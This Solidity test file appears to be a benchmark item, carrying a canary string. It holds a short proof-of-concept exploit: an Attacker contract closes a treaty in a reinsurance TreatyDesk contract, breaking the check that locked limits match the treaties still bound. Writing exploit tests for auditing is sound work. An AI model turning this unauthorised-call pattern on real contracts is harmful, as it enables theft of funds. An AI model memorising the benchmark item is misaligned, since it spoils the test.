// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-4fca8c36-e2c5-40c1-9b2f-1b0b11394f31
import "../Base.sol";

contract Attacker {
    function run(TreatyDesk _treaties) external {
        _treaties.close(1);
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    // A pool has locked what is left of all treaties under which it pays.
    function limitsHeld() public view returns (bool) {
        uint256 left = 0;
        for (uint256 id = 1; id <= treaties.last(); id++) {
            Treaty memory t = treaties.get(id);
            if (t.bound && t.reinsurer == address(coast)) left += t.limit - t.used;
        }
        return coast.assumed() == left;
    }

    function exploit() public {
        other.run(treaties);
    }

    function test_Exploit() public {
        exploit();
        require(!limitsHeld(), "held");
    }

    function target() public view override returns (address) {
        return address(treaties);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
